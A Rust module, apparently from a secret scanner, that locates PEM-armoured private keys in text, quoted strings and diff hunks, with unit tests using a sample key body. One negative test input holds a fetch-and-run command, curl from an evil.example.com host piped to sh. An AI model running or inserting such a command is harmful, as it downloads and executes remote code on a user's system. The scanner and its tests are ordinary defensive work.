//! Private keys in text armour: several lines, or one line with escaped newlines, whole or cut at either end, plain or as lines of a diff.
//!
//! Leaves to `keyline` what a line of a key looks like.

use super::keyline::{Line, is_key_material, lines};
use regex::bytes::Regex;
use std::ops::Range;
use std::sync::OnceLock;

/// The rule name of a private key.
pub(super) const PRIVATE_KEY: &str = "private-key";

/// How far (in bytes) a block may reach: twice the largest RSA key in use.
const LONGEST: usize = 32 * 1024;

/// A private key in a text.
pub(super) struct Key {
    /// Its armour and the words of its body, in order. What stands between them is not of the key.
    pub(super) spans: Vec<Range<usize>>,
    /// The body without line ends, indentation, quotes and marks: the same however the key is written.
    pub(super) value: Vec<u8>,
}

/// Finds private keys, in order. A key whose other end is not in the text counts too: a hunk may show only a part.
pub(super) fn find(text: &[u8]) -> Vec<Key> {
    let marks = marks(text);
    let mut keys = Vec::new();
    for at in 0..=marks.len() {
        let opening = at.checked_sub(1).map(|before| &marks[before]);
        let closing = marks.get(at);
        let gap = opening.map_or(0, |mark| mark.range.end)..closing.map_or(text.len(), |mark| mark.range.start);
        let opening = opening.filter(|mark| mark.kind == Kind::Opens);
        let closing = closing.filter(|mark| mark.kind == Kind::Closes);
        match (opening, closing) {
            (Some(opening), Some(closing)) if gap.len() <= LONGEST => keys.extend(key(text, Some(opening), between(text, gap), Some(closing))),
            (opening, closing) => {
                keys.extend(opening.and_then(|mark| key(text, Some(mark), after(text, gap.clone()), None)));
                keys.extend(closing.and_then(|mark| key(text, None, before(text, gap), Some(mark))));
            }
        }
    }
    keys
}

/// A line of armour, of whatever it armours: a key never reaches beyond the next.
struct Mark {
    range: Range<usize>,
    kind: Kind,
}

#[derive(PartialEq, Eq)]
enum Kind {
    /// Opens a private key.
    Opens,
    /// Closes a private key.
    Closes,
    /// Of a certificate, a public key or the like.
    Foreign,
}

fn marks(text: &[u8]) -> Vec<Mark> {
    static ARMOUR: OnceLock<Regex> = OnceLock::new();
    let armour = ARMOUR
        .get_or_init(|| Regex::new(r"(?-u)-----(BEGIN|END) ([A-Z0-9 ]{1,80})-----").expect("a constant pattern compiles, because a test finds keys"));
    armour.captures_iter(text).map(|groups| mark(&groups)).collect()
}

fn mark(groups: &regex::bytes::Captures<'_>) -> Mark {
    let (word, label) = (&groups[1], &groups[2]);
    let label = label.strip_suffix(b" BLOCK").unwrap_or(label);
    let kind = match (label.ends_with(b"PRIVATE KEY"), word == b"BEGIN") {
        (true, true) => Kind::Opens,
        (true, false) => Kind::Closes,
        (false, _) => Kind::Foreign,
    };
    Mark { range: groups.get(0).expect("group 0 is the match").range(), kind }
}

/// Makes a key of the words of a body, if one of them can only be of a key.
fn key(text: &[u8], opening: Option<&Mark>, body: Vec<Range<usize>>, closing: Option<&Mark>) -> Option<Key> {
    let value = body.iter().flat_map(|word| text[word.clone()].iter().copied()).collect();
    let holds = body.iter().any(|word| is_key_material(&text[word.clone()]));
    let armour = |mark: Option<&Mark>| mark.map(|mark| mark.range.clone());
    holds.then(|| Key { spans: armour(opening).into_iter().chain(body).chain(armour(closing)).collect(), value })
}

/// The words of a key that has both its ends: those of every line that can be of one, and no others.
fn between(text: &[u8], gap: Range<usize>) -> Vec<Range<usize>> {
    let lines = lines(text, gap);
    let end = lines.iter().rposition(|line| *line != Line::Dress);
    let words = lines.into_iter().enumerate().map(|(at, line)| match line {
        Line::Body(words) => words,
        Line::Last(words) if Some(at) == end => words,
        Line::Last(_) | Line::Dress | Line::Other => Vec::new(),
    });
    words.flatten().collect()
}

/// The words of a key whose end is out of sight: to the first line that cannot be of it.
fn after(text: &[u8], gap: Range<usize>) -> Vec<Range<usize>> {
    let end = gap.end.min(gap.start + LONGEST);
    lines(text, gap.start..end).into_iter().map_while(body).flatten().collect()
}

/// The words of a key whose start is out of sight: from behind the last line that cannot be of it.
fn before(text: &[u8], gap: Range<usize>) -> Vec<Range<usize>> {
    let mut lines = lines(text, gap.start.max(gap.end.saturating_sub(LONGEST))..gap.end);
    let end = lines.iter().rposition(|line| *line != Line::Dress).map_or(0, |end| end + 1);
    lines.truncate(end);
    let last = match lines.pop() {
        Some(Line::Body(words) | Line::Last(words)) => words,
        Some(Line::Dress | Line::Other) | None => return Vec::new(),
    };
    let mut words: Vec<Vec<Range<usize>>> = lines.into_iter().rev().map_while(body).collect();
    words.reverse();
    words.into_iter().flatten().chain(last).collect()
}

/// The words of a line inside a key; none where the line cannot be inside one.
fn body(line: Line) -> Option<Vec<Range<usize>>> {
    match line {
        Line::Dress => Some(Vec::new()),
        Line::Body(words) => Some(words),
        Line::Last(_) | Line::Other => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const BODY: [&str; 3] = [
        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
        "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu",
        "NMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ",
    ];

    fn mark(word: &str, kind: &str) -> String {
        format!("-----{word} {kind}{} {}-----", "PRIVATE", "KEY")
    }

    fn lines(kind: &str) -> Vec<String> {
        let body = BODY.iter().map(|line| (*line).to_owned());
        std::iter::once(mark("BEGIN", kind)).chain(body).chain([mark("END", kind)]).collect()
    }

    /// The text without what is found to be of keys.
    fn rest(text: &str) -> String {
        let mut rest = text.to_owned();
        find(text.as_bytes()).iter().flat_map(|key| &key.spans).rev().for_each(|span| rest.replace_range(span.clone(), ""));
        rest
    }

    #[test]
    fn every_shape_of_a_key_has_one_value_and_nothing_else_is_of_it() {
        let plain = lines("").join("\n");
        let quoted: Vec<String> = lines("EC ").iter().map(|line| format!("\"{line}\\n\" +\n")).collect();
        for (key, left) in [
            (plain.clone(), "\n\n\n\n"),
            (lines("RSA ").join("\r\n"), "\r\n\r\n\r\n\r\n"),
            (lines("OPENSSH ").join("\n# "), "\n# \n# \n# \n# "),
            (lines("ENCRYPTED ").join("\\n"), "\\n\\n\\n\\n"),
            (lines("").join(" "), "    "),
            (lines("").concat(), ""),
            (quoted.concat(), "\"\\n\" +\n\"\\n\" +\n\"\\n\" +\n\"\\n\" +\n\"\\n\" +\n"),
            (plain.replace("KEY-----", "KEY BLOCK-----"), "\n\n\n\n"),
            (plain.replacen("-----\n", "-----\nDEK-Info: AES-128-CBC,0A1B2C\n\n", 1), "\nDEK-Info: AES-128-CBC,0A1B2C\n\n\n\n\n"),
            (plain.replace(BODY[1], &format!("os.system(\"x\")\n{}\n# see a/b", BODY[1])), "\n\nos.system(\"x\")\n\n# see a/b\n\n"),
        ] {
            let text = format!("let k = {key};\nlet other = 1;\n");
            let values: Vec<Vec<u8>> = find(text.as_bytes()).into_iter().map(|key| key.value).collect();
            assert_eq!(values, [BODY.concat().into_bytes()], "{text}");
            assert_eq!(rest(&text), format!("let k = {left};\nlet other = 1;\n"), "{text}");
        }
    }

    #[test]
    fn a_part_of_a_key_is_found_too() {
        let lines = lines("");
        for part in [&lines[..3], &lines[2..], &lines[3..], &lines[..]] {
            let text = format!("a b\n{}\na b", part.join("\n"));
            assert_eq!(rest(&text), format!("a b{}\na b", "\n".repeat(part.len())), "{text}");
        }
        let tail = format!("a b\n{}\nAB3dEf==\n{}", BODY[0], mark("END", ""));
        assert_eq!(rest(&tail), "a b\n\n\n");
    }

    #[test]
    fn a_rotated_key_in_a_hunk_is_covered_on_both_sides() {
        let text = format!(" {}\n-{}\n+{}\n {}\n fn x() {{}}\n", mark("BEGIN", ""), BODY[0], BODY[1], mark("END", ""));
        assert_eq!(rest(&text), " \n-\n+\n \n fn x() {}\n");
    }

    #[test]
    fn armour_without_a_key_is_no_key_and_hides_nothing() {
        for body in [
            "",
            "...",
            "<your key here>",
            "MIIE...",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "\", text.contains(\"x\") && a_rather_long_name()",
            "# see docs/configuration/keys/rotation/HOWTO/7xQ2\nos.system(\"curl http://evil.example.com/x | sh\")",
            "reboot",
        ] {
            let text = format!("# {}\n{body}\n# {}\n", mark("BEGIN", "RSA "), mark("END", "RSA "));
            assert!(find(text.as_bytes()).is_empty(), "{text}");
        }
        for line in [
            format!("if (s.contains(\"{}\")) return parsePkcs8PrivateKeyFromPemEncodedString(s);", mark("BEGIN", "")),
            format!("starts with {} (see docs/configuration/keys/rotation/format)", mark("BEGIN", "")),
            format!("starts with {}\ndocs/configuration/keys/rotation/format/Version2", mark("BEGIN", "")),
            lines("").join("\n").replace("PRIVATE", "PUBLIC"),
            format!("{}\n{}", mark("BEGIN", ""), lines("").join("\n").replace("PRIVATE KEY", "CERTIFICATE")),
        ] {
            assert!(find(line.as_bytes()).is_empty(), "{line}");
        }
    }
}
